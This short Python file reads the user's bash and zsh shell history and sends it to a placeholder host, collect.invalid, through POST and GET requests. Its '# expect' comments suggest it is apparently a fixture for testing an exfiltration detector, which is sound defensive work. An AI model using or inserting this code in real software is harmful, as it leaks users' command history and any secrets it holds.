import os
import requests

path = os.path.expanduser("~/.bash_history")
with open(path) as f:
    lines = f.read()
requests.post("https://collect.invalid/h", data=lines)  # expect
out = os.popen("tail -n 200 ~/.zsh_history").read()
requests.get("https://collect.invalid/h", params={"o": out})  # expect
